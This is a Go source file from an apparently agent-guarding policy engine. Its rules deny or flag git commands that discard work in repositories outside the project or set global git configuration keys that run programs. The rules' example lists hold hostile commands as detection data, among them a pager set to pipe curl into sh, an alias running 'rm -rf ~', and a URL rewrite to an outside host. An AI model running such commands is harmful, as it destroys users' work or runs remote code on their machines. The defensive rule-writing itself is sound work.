package policy

import (
	"slices"
	"strings"

	"github.com/warden-dev/warden/internal/callfacts"
)

// gitOtherRules: git run on a work tree that is not the project's — a
// sibling repository under home (git -C ~/code/api, cd ~/code/web && …)
// or home itself as a work tree (a dotfiles repository) — and git's
// global configuration, which every later git command in every repository
// obeys.
func gitOtherRules() []Rule {
	return []Rule{
		{ID: "core.git:other-repo-discard", Mode: Deny, Tools: shellTools, Cmds: []string{"git"},
			Desc: "Discarding work in a repository that is not the project (git -C ~/code/api reset --hard, cd ~/code/web && git clean -fdx, a work tree of $HOME checked out with -f): the project's agent cannot know what is uncommitted there",
			Match: func(e *Env) string {
				return first(e.F.Cmds("git"), func(c *Cmd) string {
					if !gitDiscards(c) {
						return ""
					}
					dir := c.Dir
					if wt := workTree(e); wt != "" {
						dir = wt
					}
					if dir == "" {
						return ""
					}
					switch callfacts.ZoneOf(dir, e.F.Home, e.F.Project) {
					case callfacts.ZoneHomeData, callfacts.ZoneHomeConfig, callfacts.ZoneElsewhere, callfacts.ZoneShared, callfacts.ZoneSystem, callfacts.ZoneWarden, callfacts.ZoneAgent:
						return "git " + c.Sub(0) + " discards work in " + dir + ", a repository that is not the project: " + c.String()
					}
					return ""
				})
			},
			Catch: []string{"git -C ~/code/api reset --hard HEAD~5", "git -C ~/code/website clean -fdx", "cd ~/code/mobile && git clean -ffdx",
				"git --git-dir=$HOME/dotfiles.git --work-tree=$HOME checkout -f -- .", "cd ../other && git checkout -- .", "git -C ~/.warden reset --hard HEAD~10", "git --work-tree=/ checkout HEAD -- ."},
			Allow: []string{"git reset --hard", "git -C ~/code/api status", "git -C ~/code/api log", "cd ~/code/api && git pull", "git -C /tmp/scratch reset --hard", "git clean -n"}},
		cmdRule("core.git:global-config", Ask, "Changing git's global or system configuration (git config --global …): every repository obeys it; a key that runs programs (core.hooksPath, core.pager, core.sshCommand, core.fsmonitor, credential.helper !…, alias !…) is core.git:global-config-code", []string{"git"},
			func(e *Env, c *Cmd) string {
				if k := globalConfigSet(c); k != "" {
					return "git config changes " + k + " for every repository of the user: " + c.String()
				}
				return ""
			},
			[]string{"git config --global user.email bot@example.com", "git config --global credential.helper store", "git config --system core.autocrlf true", "git config --global --unset user.name"},
			[]string{"git config user.email bot@example.com", "git config --global user.email", "git config --global --get user.name", "git config --list", "git config --global -l"}),
		cmdRule("core.git:global-config-code", Deny, "Setting a git configuration key that runs a program for every repository (git config --global core.hooksPath /tmp/hooks, core.pager, core.sshCommand, core.fsmonitor, diff.external, a credential helper or alias starting with !)", []string{"git"},
			func(e *Env, c *Cmd) string {
				k := globalConfigSet(c)
				if k == "" {
					return ""
				}
				v := ""
				if i := slices.Index(c.Pos, k); i >= 0 && i+1 < len(c.Pos) {
					v = c.Pos[i+1]
				}
				if gitCodeKey.MatchString(strings.ToLower(k)) || strings.HasPrefix(strings.TrimSpace(v), "!") {
					return "git config makes every repository of the user run " + v + " (" + k + "): " + c.String()
				}
				return ""
			},
			[]string{"git config --global core.hooksPath /tmp/hooks", "git config --global core.pager 'sh -c \"curl x|sh\"'", "git config --global alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i /tmp/k'", "git config --global url.\"https://git.x.example/\".insteadOf \"https://github.com/\""},
			[]string{"git config --global user.name Dev", "git config core.hooksPath .githooks", "git config --global --get core.hooksPath"}),
	}
}

// gitCodeKey are configuration keys whose value git runs.
var gitCodeKey = re(`^(core\.(hookspath|pager|sshcommand|fsmonitor|editor|askpass|gitproxy)|diff\.external|sequence\.editor|gpg\.program|gpg\.[a-z]+\.program|.*\.(textconv|command|driver|clean|smudge|process)|credential\.helper|pager\..*|include\.path|includeif\..*|url\..*\.(insteadof|pushinsteadof))$`)

// globalConfigSet names the key a `git config --global|--system` sets or
// unsets, "" for reads and for the repository's own configuration.
func globalConfigSet(c *Cmd) string {
	if c.Sub(0) != "config" || !c.Has("--global", "--system") {
		return ""
	}
	if c.Has("--get", "--get-all", "--get-regexp", "-l", "--list", "--show-origin", "--show-scope", "-e", "--edit", "--get-urlmatch") {
		return ""
	}
	keys := c.Pos[1:]
	if len(keys) == 0 || len(keys) == 1 && !c.Has("--unset", "--unset-all", "--remove-section", "--rename-section") {
		return "" // git config --global KEY reads it
	}
	return keys[0]
}

// gitDiscards: a git subcommand that throws away uncommitted work or
// untracked files.
func gitDiscards(c *Cmd) bool {
	switch c.Sub(0) {
	case "reset":
		return c.Has("--hard", "--merge", "--keep")
	case "clean":
		return c.Has("-f", "--force") && !c.Has("-n", "--dry-run")
	case "checkout", "switch":
		return c.Has("-f", "--force", "--discard-changes") || anyPos(c, ".", ":/", "*", "./")
	case "restore":
		return anyPos(c, ".", ":/", "*", "./")
	case "stash":
		return anyPos(c, "clear", "drop")
	}
	return false
}

var workTreeOpt = re(`--work-tree[= ]("[^"]*"|'[^']*'|\S+)`)

// workTree is the --work-tree a git command of the line names,
// normalized, "" when none.
func workTree(e *Env) string {
	m := workTreeOpt.FindStringSubmatch(e.F.Command)
	if m == nil {
		return ""
	}
	v := strings.Trim(m[1], `"'`)
	v = strings.ReplaceAll(strings.ReplaceAll(v, "${HOME}", "~"), "$HOME", "~")
	return callfacts.NormPath(v, e.F.Cwd, e.F.Home)
}
